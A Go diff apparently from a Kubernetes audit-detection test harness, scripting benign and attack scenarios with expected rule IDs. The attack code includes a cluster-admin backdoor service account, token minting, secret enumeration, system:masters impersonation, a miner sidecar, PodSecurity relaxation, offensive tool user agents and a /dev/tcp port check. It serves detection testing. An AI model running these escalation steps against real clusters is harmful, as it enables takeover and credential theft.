@@ -17,6 +17,7 @@ import (
 	"time"
 
 	admregv1 "k8s.io/api/admissionregistration/v1"
+	appsv1 "k8s.io/api/apps/v1"
 	authnv1 "k8s.io/api/authentication/v1"
 	authzv1 "k8s.io/api/authorization/v1"
 	certv1 "k8s.io/api/certificates/v1"
@@ -25,6 +26,7 @@ import (
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
+	"k8s.io/apimachinery/pkg/util/intstr"
 	"k8s.io/client-go/kubernetes"
 	"k8s.io/client-go/kubernetes/scheme"
 	"k8s.io/client-go/tools/remotecommand"
@@ -45,6 +47,7 @@ const (
 	uaPythonRequests  = "python-requests/2.32.3"
 	uaAccessMatrix    = "kubectl-access_matrix/v0.0.0 (linux/amd64) kubernetes/$Format"
 	uaPeirates        = "peirates/v1.1.26 (linux/amd64) kubernetes/$Format"
+	uaAzureHound      = "azurehound/v2.2.1"
 	uaCurl            = "curl/8.11.1"
 	backdoorSA        = "kube-metrics-agent"
 	backdoorUser      = "system:serviceaccount:kube-system:" + backdoorSA
@@ -66,11 +69,13 @@ func BenignScenarios() []Scenario {
 		{Name: "nodes-join", Kind: KindBenign, Actors: []string{Node1, NodeCP1, Admin},
 			Description: "node-1 and cp-1 register (create node, patch status Ready, lease in kube-node-lease) under their node identities; the admin labels and taints cp-1 control-plane as kubeadm does",
 			Run:         func(d *Driver) error { return d.StartNodes([]string{"node-1"}, []string{"cp-1"}) }},
-		{Name: "cluster-setup", Kind: KindBenign, Actors: []string{Admin}, Run: runSetup,
+		{Name: "kubeadm-addons", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-006"}, Run: runKubeadmAddons,
+			Description: "the admin applies the kube-proxy DaemonSet in kube-system as kubeadm does (privileged, host network, tolerating every taint); the daemonset controller creates its pods on node-1 and cp-1"},
+		{Name: "cluster-setup", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-001", "KS-TRAIL-002", "KS-TRAIL-003", "KS-TRAIL-006"}, Run: runSetup,
 			Description: "the admin applies namespaces (team-a audit/warn baseline, prod enforce baseline, payments), role bindings, secrets, a network policy and the prod/web and payments/ledger-db deployments with kubectl apply"},
-		{Name: "developer-kubectl", Kind: KindBenign, Actors: []string{Alice}, Run: runDeveloper,
-			Description: "alice uses kubectl in team-a: get, describe, apply a deployment, scale it, get replicasets and events, logs (no kubelet: refused), delete a pod"},
-		{Name: "ci-deploy", Kind: KindBenign, Actors: []string{CIDeployer}, Run: runCIDeploy,
+		{Name: "developer-kubectl", Kind: KindBenign, Actors: []string{Alice}, Expect: []string{"KS-SECRET-013", "KS-TRAIL-006"}, Run: runDeveloper,
+			Description: "alice uses kubectl in team-a: get, describe, apply a deployment, scale it, get replicasets, events and secrets, logs (no kubelet: refused), delete a pod"},
+		{Name: "ci-deploy", Kind: KindBenign, Actors: []string{CIDeployer}, Expect: []string{"KS-TRAIL-004", "KS-TRAIL-005", "KS-TRAIL-006"}, Run: runCIDeploy,
 			Description: "the CI pipeline applies a deployment, service and configmap server-side in team-a, then sets a new image"},
 		{Name: "controller-workloads", Kind: KindBenign, Actors: []string{Alice}, Run: runWorkloads,
 			Description: "alice creates a Job, a StatefulSet and a CronJob in team-a; the job and statefulset controllers create their pods under their own service accounts, the scheduler binds them"},
@@ -78,10 +83,18 @@ func BenignScenarios() []Scenario {
 			Description: "alice patches a role (JSON patch), a deployment (merge and strategic merge patch), a secret (JSON patch) and applies a secret and a configmap server-side (client-go apply)"},
 		{Name: "token-and-access-review", Kind: KindBenign, Actors: []string{CIDeployer, Bob}, Run: runReviews,
 			Description: "ci-deployer reviews a valid service-account token and a bad one (TokenReview) and asks a SubjectAccessReview; bob runs kubectl auth can-i (SelfSubjectAccessReview)"},
-		{Name: "csr-approved", Kind: KindBenign, Actors: []string{Alice, Admin}, Expect: []string{"KS-CRED-005", "KS-CRED-007"}, Run: runCSRApproved,
+		{Name: "csr-approved", Kind: KindBenign, Actors: []string{Alice, Admin}, Run: runCSRApproved,
 			Description: "alice submits a client CSR for herself (kube-apiserver-client signer), the admin approves it with kubectl certificate approve, the controller-manager signs it"},
 		{Name: "impersonation-admin-as-alice", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-CP-008"}, Run: runImpersonateBenign,
 			Description: "the admin checks alice's view with kubectl --as=alice"},
+		{Name: "exec-health-checks", Kind: KindBenign, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001"}, Run: runExecHealthChecks,
+			Description: "alice checks a team-a pod from inside: kubectl exec of curl -sk https://localhost:8443/healthz and of bash -c '</dev/tcp/127.0.0.1/8080' (a port check), neither interactive"},
+		{Name: "metrics-scrape", Kind: KindBenign, Actors: []string{Admin}, Run: runMetricsScrape,
+			Description: "a Prometheus-like scraper (the admin's credentials, user agent Prometheus/2.53.0) reads node-1's cadvisor and resource metrics through nodes/proxy (refused here: the node's address is 127.0.0.1)"},
+		{Name: "helm-install", Kind: KindBenign, Actors: []string{Admin}, Expect: []string{"KS-TRAIL-001", "KS-TRAIL-002", "KS-TRAIL-004", "KS-TRAIL-006"}, Run: runHelmInstall,
+			Description: "the admin (system:masters) installs a chart into payments with Helm's user agent: a service account, a Role and RoleBinding, a Service and a Deployment"},
+		{Name: "pod-token-in-cluster", Kind: KindBenign, Actors: []string{Node1, webSAUser}, Run: runPodTokenInCluster,
+			Description: "a token of prod/web bound to a web pod (minted by node-1) asks who it is (SelfSubjectReview) from a pod address, 10.244.1.23, as the application would"},
 		{Name: "idle", Kind: KindBenign, Actors: []string{Node1, NodeCP1, ControllerManager, Scheduler, "system:apiserver"}, Run: runIdle,
 			Description: "25 seconds of a quiet cluster: lease renewals by the nodes, the controller-manager, the scheduler and the apiserver"},
 	}
@@ -93,8 +106,8 @@ func AttackScenarios() []Scenario {
 	return []Scenario{
 		{Name: "failed-logins", Kind: KindAttack, Actors: []string{""}, Expect: []string{"KS-AUTH-002"}, Run: runFailedLogins,
 			Description: "12 requests with bad bearer tokens from 203.0.113.200 (client-go) and 2 with kubectl --token"},
-		{Name: "anonymous-probes", Kind: KindAttack, Actors: []string{anonymous}, Expect: []string{"KS-AUTH-004"}, Run: runAnonymousProbes,
-			Description: "anonymous requests from 203.0.113.200 to /healthz, /readyz, /livez, /version, /api, /apis (allowed) and to secrets, pods and deployments (403)"},
+		{Name: "anonymous-probes", Kind: KindAttack, Actors: []string{anonymous}, Expect: []string{"KS-AUTH-004", "KS-AUTH-007", "KS-AUTH-008"}, Run: runAnonymousProbes,
+			Description: "anonymous requests from 203.0.113.200 to /healthz, /readyz, /livez, /version, /api, /apis (allowed) and to secrets, pods, deployments and nodes (403), and an attempt to create a configmap (403)"},
 		{Name: "anonymous-allowed", Kind: KindAttack, Actors: []string{anonymous, Admin}, Expect: []string{"KS-AUTH-001"}, Run: runAnonymousAllowed,
 			Description: "a ClusterRole reading pods and configmaps is bound to system:anonymous; anonymous lists prod's pods and configmaps from 203.0.113.200; the binding is removed"},
 		{Name: "exec-shell", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-EXEC-001", "KS-EXEC-003"}, Run: runExecShell,
@@ -127,15 +140,15 @@ func AttackScenarios() []Scenario {
 			Description: "alice creates a StatefulSet with hostNetwork and a hostPath /var/log in team-a; the statefulset controller creates pod -0"},
 		{Name: "pod-in-kube-system", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-014"}, Run: runPodKubeSystem,
 			Description: "ci-deployer runs a pod in kube-system with kubectl run"},
-		{Name: "control-plane-scheduling", Kind: KindAttack, Actors: []string{Alice}, Run: runControlPlanePod,
-			Description: "alice creates a pod with a control-plane nodeSelector and toleration in team-a; the scheduler binds it to cp-1"},
-		{Name: "psa-label-relaxed", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-001", "KS-WL-005"}, Run: runPSARelaxed,
-			Description: "ci-deployer's privileged pod is refused by PodSecurity in prod (enforce=baseline), it relabels prod enforce=privileged and creates the pod"},
+		{Name: "control-plane-scheduling", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-022"}, Run: runControlPlanePod,
+			Description: "alice creates a pod with a control-plane nodeSelector and toleration in team-a (the scheduler binds it to cp-1), and one with nodeName cp-1"},
+		{Name: "psa-label-relaxed", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-WL-001", "KS-WL-005", "KS-CP-012"}, Run: runPSARelaxed,
+			Description: "ci-deployer's privileged pod is refused by PodSecurity in prod (enforce=baseline), it relabels prod enforce=privileged and creates the pod, then removes the enforce label (kubectl label ...-)"},
 		{Name: "cluster-admin-binding", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-003", "KS-RBAC-001", "KS-RBAC-002", "KS-CHAIN-002"}, Run: runClusterAdminBinding,
 			Description: "ci-deployer creates service account kube-system/kube-metrics-agent and binds it to cluster-admin (kubectl create)"},
 		{Name: "token-request", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-002", "KS-SECRET-010", "KS-CHAIN-002"}, Run: runTokenRequest,
-			Description: "ci-deployer mints a token for kube-metrics-agent with kubectl create token --duration 48h (the fixture keeps this token JWT-shaped, signature replaced)"},
-		{Name: "secret-list-cluster-wide", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-SECRET-004", "KS-CRED-003", "KS-DISC-004", "KS-DISC-005"}, Run: runSecretListAll,
+			Description: "ci-deployer mints a token for kube-metrics-agent with kubectl create token --duration 48h (the fixture keeps this token JWT-shaped, signature replaced) and tries it once (SelfSubjectReview) from the CI machine"},
+		{Name: "secret-list-cluster-wide", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-SECRET-004", "KS-SECRET-012", "KS-CRED-003", "KS-DISC-004", "KS-DISC-005"}, Run: runSecretListAll,
 			Description: "the kube-metrics-agent token lists secrets in all namespaces and in kube-system from 203.0.113.77 with a kubectl user agent"},
 		{Name: "discovery-burst", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-DISC-003", "KS-DISC-001"}, Run: runDiscoveryBurst,
 			Description: "the kube-metrics-agent token asks a SelfSubjectRulesReview and lists 20 resource types cluster-wide from 203.0.113.77"},
@@ -143,28 +156,28 @@ func AttackScenarios() []Scenario {
 			Description: "the kube-metrics-agent token binds cluster-admin to a new user (a ClusterRoleBinding written by a service account)"},
 		{Name: "mutating-webhook", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-CP-001"}, Run: runWebhooks,
 			Description: "the kube-metrics-agent token creates a MutatingWebhookConfiguration on pod creation and a ValidatingWebhookConfiguration (failurePolicy Ignore, a service that does not exist), then deletes both"},
-		{Name: "apiservice-insecure", Kind: KindAttack, Actors: []string{CIDeployer}, Run: runAPIService,
-			Description: "ci-deployer registers an APIService with insecureSkipTLSVerify for a service that does not exist, then deletes it"},
+		{Name: "apiservice-insecure", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-010", "KS-CP-011"}, Run: runAPIService,
+			Description: "ci-deployer registers an APIService with insecureSkipTLSVerify for a service that does not exist, redirects it to another service with a merge patch, then deletes it"},
 		{Name: "long-lived-token-secret", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-001", "KS-SECRET-010"}, Run: runLongLivedToken,
 			Description: "ci-deployer creates a kubernetes.io/service-account-token Secret for kube-metrics-agent; the token controller fills it; ci-deployer reads it back"},
-		{Name: "secret-enumeration", Kind: KindAttack, Actors: []string{webSAUser, Node1}, Expect: []string{"KS-SECRET-005", "KS-SECRET-002", "KS-SECRET-008", "KS-SECRET-006", "KS-CRED-003"}, Run: runSecretEnumeration,
+		{Name: "secret-enumeration", Kind: KindAttack, Actors: []string{webSAUser, Node1}, Expect: []string{"KS-SECRET-005", "KS-SECRET-002", "KS-SECRET-008", "KS-SECRET-006", "KS-CRED-003", "KS-CRED-009"}, Run: runSecretEnumeration,
 			Description: "a token of prod/web (minted by node-1's kubelet identity, bound to a web pod) reads 12 prod secrets and the registry credentials with python-requests from 198.51.100.23, then is refused kube-system's secrets"},
-		{Name: "pod-token-after-delete", Kind: KindAttack, Actors: []string{Admin, Node1, webSAUser, ""}, Expect: []string{"KS-CRED-004"}, Run: runTokenAfterDelete,
+		{Name: "pod-token-after-delete", Kind: KindAttack, Actors: []string{Admin, Node1, webSAUser, ""}, Expect: []string{"KS-CRED-004", "KS-CRED-009"}, Run: runTokenAfterDelete,
 			Description: "node-1 mints a token bound to prod pod batch-worker; it works; the admin force-deletes the pod; the same token is then refused (401)"},
 		{Name: "rbac-wildcard-role", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-003"}, Run: runWildcardRole,
-			Description: "ci-deployer creates a ClusterRole granting * on * and binds it to bob"},
-		{Name: "rbac-risky-roles", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-004", "KS-RBAC-005", "KS-RBAC-006", "KS-RBAC-007"}, Run: runRiskyRoles,
-			Description: "ci-deployer creates roles granting escalate/bind/impersonate, serviceaccounts/token create, pods/exec and nodes/proxy, reading secrets and writing rolebindings"},
-		{Name: "cluster-admin-binding-patched", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-001", "KS-RBAC-008"}, Run: runPatchClusterAdmin,
-			Description: "ci-deployer adds user mallory to the cluster-admin ClusterRoleBinding with a JSON patch, and removes her again"},
-		{Name: "impersonation-system-masters", Kind: KindAttack, Actors: []string{CIDeployer, Alice}, Expect: []string{"KS-CP-008", "KS-CP-009"}, Run: runImpersonation,
+			Description: "ci-deployer creates a ClusterRole granting * on * and binds it to bob, then adds a * on * rule to team-a's reader Role with a JSON patch and takes it out again"},
+		{Name: "rbac-risky-roles", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-004", "KS-RBAC-005", "KS-RBAC-006", "KS-RBAC-007", "KS-RBAC-011", "KS-RBAC-012", "KS-RBAC-013"}, Run: runRiskyRoles,
+			Description: "ci-deployer creates roles granting escalate/bind/impersonate, serviceaccounts/token create, pods/exec and nodes/proxy, reading secrets and writing rolebindings, writing secrets, and binds the edit ClusterRole to team-a's default service account"},
+		{Name: "cluster-admin-binding-patched", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-RBAC-001", "KS-RBAC-008", "KS-RBAC-010"}, Run: runPatchClusterAdmin,
+			Description: "ci-deployer adds user mallory to the cluster-admin ClusterRoleBinding with a JSON patch, and removes her again; then adds group contractors to its own ci-deployer-admin binding (cluster-admin) with a merge patch, and takes it out again"},
+		{Name: "impersonation-system-masters", Kind: KindAttack, Actors: []string{CIDeployer, Alice}, Expect: []string{"KS-CP-008", "KS-CP-009", "KS-SECRET-012"}, Run: runImpersonation,
 			Description: "ci-deployer reads kube-system secrets with kubectl --as=system:admin --as-group=system:masters; alice's attempt to impersonate is refused"},
 		{Name: "csr-system-masters", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CRED-005", "KS-CRED-006", "KS-CRED-007"}, Run: runCSRMasters,
 			Description: "ci-deployer submits a CSR for O=system:masters to kubernetes.io/kube-apiserver-client (refused by the apiserver), then to a made-up signer, and approves it itself"},
-		{Name: "denial-burst", Kind: KindAttack, Actors: []string{Bob}, Expect: []string{"KS-AUTH-003", "KS-SECRET-006"}, Run: runDenialBurst,
+		{Name: "denial-burst", Kind: KindAttack, Actors: []string{Bob}, Expect: []string{"KS-AUTH-003", "KS-SECRET-006", "KS-AUTH-009"}, Run: runDenialBurst,
 			Description: "bob (view in team-a) makes 25 requests he is not allowed"},
 		{Name: "offensive-user-agent", Kind: KindAttack, Actors: []string{backdoorUser}, Expect: []string{"KS-AUTH-006", "KS-DISC-002"}, Run: runOffensiveUA,
-			Description: "the kube-metrics-agent token makes 30 SelfSubjectAccessReviews as kubectl-access_matrix (rakkess) and lists pods and secrets as peirates"},
+			Description: "the kube-metrics-agent token makes 30 SelfSubjectAccessReviews as kubectl-access_matrix (rakkess), lists pods and secrets as peirates, and namespaces and nodes as azurehound"},
 		{Name: "node-identity-secrets", Kind: KindAttack, Actors: []string{Node1}, Expect: []string{"KS-SECRET-001"}, Run: runNodeSecrets,
 			Description: "node-1's kubelet identity lists secrets cluster-wide and reads one of kube-system (the Node authorizer refuses)"},
 		{Name: "events-deleted", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EVADE-001"}, Run: runEventsDeleted,
@@ -174,9 +187,11 @@ func AttackScenarios() []Scenario {
 		{Name: "deletion-burst", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-EVADE-003"}, Run: runDeletionBurst,
 			Description: "ci-deployer creates 22 configmaps in team-a and deletes them one by one"},
 		{Name: "configmap-credentials", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-CRED-008"}, Run: runConfigMapCreds,
-			Description: "alice stores AWS keys and a database password in a ConfigMap"},
+			Description: "alice stores AWS keys and a database password in a ConfigMap under credential-like keys, then an application.properties with an AWS key pair, a JDBC URL with a password and a PEM private key inside values under ordinary keys"},
 		{Name: "container-injected", Kind: KindAttack, Actors: []string{Alice}, Expect: []string{"KS-WL-017", "KS-WL-013"}, Run: runInjectContainer,
 			Description: "alice adds a miner sidecar to deployment team-a/shop with a strategic merge patch; the replicaset controller rolls new pods"},
+		{Name: "control-plane-taint-removed", Kind: KindAttack, Actors: []string{CIDeployer}, Expect: []string{"KS-CP-013"}, Run: runTaintRemoved,
+			Description: "ci-deployer removes cp-1's node-role.kubernetes.io/control-plane:NoSchedule taint with kubectl taint, then puts it back"},
 	}
 }
 
@@ -324,6 +339,44 @@ spec:
           ports: [{containerPort: 5432}]
 `
 
+// kubeProxyDaemonSet is kubeadm's kube-proxy add-on, as v1.37 applies it (the default
+// service account: kubeadm's own is left out, as is its ConfigMap).
+const kubeProxyDaemonSet = `apiVersion: apps/v1
+kind: DaemonSet
+metadata: {name: kube-proxy, namespace: kube-system, labels: {k8s-app: kube-proxy}}
+spec:
+  selector: {matchLabels: {k8s-app: kube-proxy}}
+  updateStrategy: {type: RollingUpdate}
+  template:
+    metadata: {labels: {k8s-app: kube-proxy}}
+    spec:
+      priorityClassName: system-node-critical
+      hostNetwork: true
+      nodeSelector: {kubernetes.io/os: linux}
+      tolerations: [{operator: Exists}]
+      containers:
+        - name: kube-proxy
+          image: registry.k8s.io/kube-proxy:v1.37.2
+          command: [/usr/local/bin/kube-proxy, --hostname-override=$(NODE_NAME)]
+          env: [{name: NODE_NAME, valueFrom: {fieldRef: {fieldPath: spec.nodeName}}}]
+          securityContext: {privileged: true}
+          volumeMounts:
+            - {name: xtables-lock, mountPath: /run/xtables.lock}
+            - {name: lib-modules, mountPath: /lib/modules, readOnly: true}
+      volumes:
+        - {name: xtables-lock, hostPath: {path: /run/xtables.lock, type: FileOrCreate}}
+        - {name: lib-modules, hostPath: {path: /lib/modules}}
+`
+
+func runKubeadmAddons(d *Driver) error {
+	d.Caused("kube-system", "kube-proxy")
+	if err := d.Apply(Admin, kubeProxyDaemonSet); err != nil {
+		return err
+	}
+	_, err := d.WaitPods("kube-system", "kube-proxy", 2, 60*time.Second)
+	return err
+}
+
 func runSetup(d *Driver) error {
 	// Namespaces first: kubectl apply of one stream creates them in order, but the
 	// namespaced objects after them need the namespace to exist when their turn comes.
@@ -385,7 +438,7 @@ func runDeveloper(d *Driver) error {
 	if err != nil {
 		return err
 	}
-	for _, args := range [][]string{{"get", "replicasets", "-n", "team-a", "-o", "wide"}, {"get", "events", "-n", "team-a"}, {"get", "pods", "-n", "team-a", "-o", "yaml"}} {
+	for _, args := range [][]string{{"get", "replicasets", "-n", "team-a", "-o", "wide"}, {"get", "events", "-n", "team-a"}, {"get", "pods", "-n", "team-a", "-o", "yaml"}, {"get", "secrets", "-n", "team-a"}} {
 		if _, err := d.Kubectl(Alice, "", args...); err != nil {
 			return err
 		}
@@ -625,6 +678,80 @@ func runImpersonateBenign(d *Driver) error {
 	return nil
 }
 
+func runExecHealthChecks(d *Driver) error {
+	p, err := d.shopPod()
+	if err != nil {
+		return err
+	}
+	_, _ = d.Kubectl(Alice, "", "exec", "-n", "team-a", p, "--", "curl", "-sk", "https://localhost:8443/healthz")
+	_, _ = d.Kubectl(Alice, "", "exec", "-n", "team-a", p, "--", "bash", "-c", "</dev/tcp/127.0.0.1/8080")
+	return nil
+}
+
+func runMetricsScrape(d *Driver) error {
+	rc := d.ClientVia(Admin, Remote{UserAgent: "Prometheus/2.53.0"}).CoreV1().RESTClient()
+	for _, p := range []string{"/api/v1/nodes/node-1/proxy/metrics/cadvisor", "/api/v1/nodes/node-1/proxy/metrics/resource", "/api/v1/nodes/node-1/proxy/metrics"} {
+		_, err := rc.Get().AbsPath(p).DoRaw(d.Ctx)
+		d.Note("scrape %s: %v", p, err)
+	}
+	return nil
+}
+
+// runHelmInstall creates what a small chart holds, as Helm does (client-go, its user
+// agent, one create per object). Helm's release record (a Secret of type
+// helm.sh/release.v1) is left out: at this policy its data would be in the log.
+func runHelmInstall(d *Driver) error {
+	d.Caused("payments", "ledger-api")
+	cs := d.ClientVia(Admin, Remote{UserAgent: "Helm/3.16.2"})
+	const ns, name = "payments", "ledger-api"
+	labels := map[string]string{"app.kubernetes.io/name": name, "app.kubernetes.io/instance": name, "app.kubernetes.io/managed-by": "Helm"}
+	meta := metav1.ObjectMeta{Name: name, Namespace: ns, Labels: labels, Annotations: map[string]string{"meta.helm.sh/release-name": name, "meta.helm.sh/release-namespace": ns}}
+	if _, err := cs.CoreV1().ServiceAccounts(ns).Create(d.Ctx, &corev1.ServiceAccount{ObjectMeta: meta}, metav1.CreateOptions{}); err != nil {
+		return err
+	}
+	if _, err := cs.RbacV1().Roles(ns).Create(d.Ctx, &rbacv1.Role{ObjectMeta: meta, Rules: []rbacv1.PolicyRule{
+		{APIGroups: []string{""}, Resources: []string{"configmaps"}, Verbs: []string{"get", "list", "watch"}}}}, metav1.CreateOptions{}); err != nil {
+		return err
+	}
+	if _, err := cs.RbacV1().RoleBindings(ns).Create(d.Ctx, &rbacv1.RoleBinding{ObjectMeta: meta,
+		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: name},
+		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: name, Namespace: ns}}}, metav1.CreateOptions{}); err != nil {
+		return err
+	}
+	sel := map[string]string{"app.kubernetes.io/name": name, "app.kubernetes.io/instance": name}
+	if _, err := cs.CoreV1().Services(ns).Create(d.Ctx, &corev1.Service{ObjectMeta: meta, Spec: corev1.ServiceSpec{Selector: sel,
+		Ports: []corev1.ServicePort{{Name: "http", Port: 80, TargetPort: intstr.FromInt32(8080)}}}}, metav1.CreateOptions{}); err != nil {
+		return err
+	}
+	dep := &appsv1.Deployment{ObjectMeta: meta, Spec: appsv1.DeploymentSpec{Replicas: ptr.To[int32](1), Selector: &metav1.LabelSelector{MatchLabels: sel},
+		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: corev1.PodSpec{ServiceAccountName: name,
+			Containers: []corev1.Container{{Name: "api", Image: "registry.example.com/payments/ledger-api:2.0.1", Ports: []corev1.ContainerPort{{ContainerPort: 8080}},
+				SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false), RunAsNonRoot: ptr.To(true)}}}}}}}
+	if _, err := cs.AppsV1().Deployments(ns).Create(d.Ctx, dep, metav1.CreateOptions{}); err != nil {
+		return err
+	}
+	_, err := d.WaitPods(ns, name, 1, 60*time.Second)
+	return err
+}
+
+// runPodTokenInCluster: a web pod's own token used from the pod network, as the
+// application uses it (the near miss of a pod token used from outside the cluster).
+func runPodTokenInCluster(d *Driver) error {
+	pod, err := d.prodWebPodOnNode1()
+	if err != nil {
+		return err
+	}
+	tok, err := d.webPodToken(pod)
+	if err != nil {
+		return err
+	}
+	r, err := d.TokenClient(tok, Remote{UserAgent: "web/1.4.2", IP: "10.244.1.23"}).AuthenticationV1().SelfSubjectReviews().Create(d.Ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
+	if err == nil {
+		d.Note("self subject review: %s", r.Status.UserInfo.Username)
+	}
+	return err
+}
+
 func runIdle(d *Driver) error {
 	select {
 	case <-time.After(25 * time.Second):
@@ -673,6 +800,10 @@ func runAnonymousProbes(d *Driver) error {
 		default:
 			d.Note("anonymous %s: %v", p, err)
 		}
+	}
+	_, err := cs.CoreV1().ConfigMaps("default").Create(d.Ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "probe"}, Data: map[string]string{"x": "1"}}, metav1.CreateOptions{})
+	if !apierrors.IsForbidden(err) {
+		return fmt.Errorf("anonymous configmap create: want 403, got %v", err)
 	}
 	return nil
 }
@@ -974,7 +1105,18 @@ spec:
 	}
 	n, err := d.WaitScheduled("team-a", "cp-probe", 60*time.Second)
 	d.Note("cp-probe scheduled on %s", n)
-	return err
+	if err != nil {
+		return err
+	}
+	// nodeName bypasses the scheduler, its taints and its selectors.
+	d.Caused("team-a", "cp-pinned")
+	return d.Apply(Alice, `apiVersion: v1
+kind: Pod
+metadata: {name: cp-pinned, namespace: team-a}
+spec:
+  nodeName: cp-1
+  containers: [{name: probe, image: docker.io/library/alpine:3.20, command: [sleep, infinity]}]
+`)
 }
 
 func runPSARelaxed(d *Driver) error {
@@ -996,7 +1138,11 @@ spec:
 	if _, err := d.Kubectl(CIDeployer, "", "label", "namespace", "prod", "pod-security.kubernetes.io/enforce=privileged", "--overwrite"); err != nil {
 		return err
 	}
-	return d.Apply(CIDeployer, pod)
+	if err := d.Apply(CIDeployer, pod); err != nil {
+		return err
+	}
+	_, err := d.Kubectl(CIDeployer, "", "label", "namespace", "prod", "pod-security.kubernetes.io/enforce-")
+	return err
 }
 
 func runClusterAdminBinding(d *Driver) error {
@@ -1016,7 +1162,10 @@ func runTokenRequest(d *Driver) error {
 	d.Minted(t)
 	d.ShapeToken = t
 	d.backdoorToken = t
-	return nil
+	// The CI machine tries the token once before it leaves for the attacker's (the later
+	// scenarios use it from 203.0.113.77): one credential, two addresses.
+	_, err = d.TokenClient(t, Remote{UserAgent: uaAttackerKubectl}).AuthenticationV1().SelfSubjectReviews().Create(d.Ctx, &authnv1.SelfSubjectReview{}, metav1.CreateOptions{})
+	return err
 }
 
 func (d *Driver) backdoor(ua string) (*kubernetes.Clientset, error) {
@@ -1117,6 +1266,10 @@ spec:
   service: {namespace: kube-system, name: metrics-proxy, port: 443}
 `
 	if err := d.Apply(CIDeployer, m); err != nil {
+		return err
+	}
+	time.Sleep(time.Second)
+	if _, err := d.Kubectl(CIDeployer, "", "patch", "apiservice", "v1beta1.metrics.example.io", "--type=merge", "-p", `{"spec":{"service":{"name":"metrics-proxy-2"}}}`); err != nil {
 		return err
 	}
 	time.Sleep(time.Second)
@@ -1260,7 +1413,21 @@ rules:
 	if err != nil {
 		return err
 	}
-	_, err = d.Kubectl(CIDeployer, "", "delete", "clusterrolebinding", "ops-all-bob")
+	if _, err = d.Kubectl(CIDeployer, "", "delete", "clusterrolebinding", "ops-all-bob"); err != nil {
+		return err
+	}
+	// The same grant slipped into an existing Role with a JSON patch, then taken out.
+	role, err := d.Client(CIDeployer).RbacV1().Roles("team-a").Get(d.Ctx, "reader", metav1.GetOptions{})
+	if err != nil {
+		return err
+	}
+	add := `[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`
+	if _, err := d.Kubectl(CIDeployer, "", "patch", "role", "reader", "-n", "team-a", "--type=json", "-p", add); err != nil {
+		return err
+	}
+	n := len(role.Rules)
+	rm := fmt.Sprintf(`[{"op":"test","path":"/rules/%d/verbs/0","value":"*"},{"op":"remove","path":"/rules/%d"}]`, n, n)
+	_, err = d.Kubectl(CIDeployer, "", "patch", "role", "reader", "-n", "team-a", "--type=json", "-p", rm)
 	return err
 }
 
@@ -1305,6 +1472,20 @@ rules:
   - apiGroups: [rbac.authorization.k8s.io]
     resources: [rolebindings]
     verbs: [create, update, patch]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: secret-writer, namespace: prod}
+rules:
+  - apiGroups: [""]
+    resources: [secrets]
+    verbs: [create, update, patch, delete]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: default-edit, namespace: team-a}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
+subjects: [{kind: ServiceAccount, name: default, namespace: team-a}]
 `
 	return d.Apply(CIDeployer, m)
 }
@@ -1328,7 +1509,17 @@ func runPatchClusterAdmin(d *Driver) error {
 		return errors.New("mallory not in cluster-admin after the patch")
 	}
 	rm := fmt.Sprintf(`[{"op":"test","path":"/subjects/%d/name","value":"mallory"},{"op":"remove","path":"/subjects/%d"}]`, idx, idx)
-	_, err = d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "cluster-admin", "--type=json", "-p", rm)
+	if _, err = d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "cluster-admin", "--type=json", "-p", rm); err != nil {
+		return err
+	}
+	// A merge patch replaces the whole subjects list: the new list holds the old subject
+	// and the added one.
+	me := `{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"ci-deployer"}`
+	if _, err := d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "ci-deployer-admin", "--type=merge", "-p",
+		`{"subjects":[`+me+`,{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"contractors"}]}`); err != nil {
+		return err
+	}
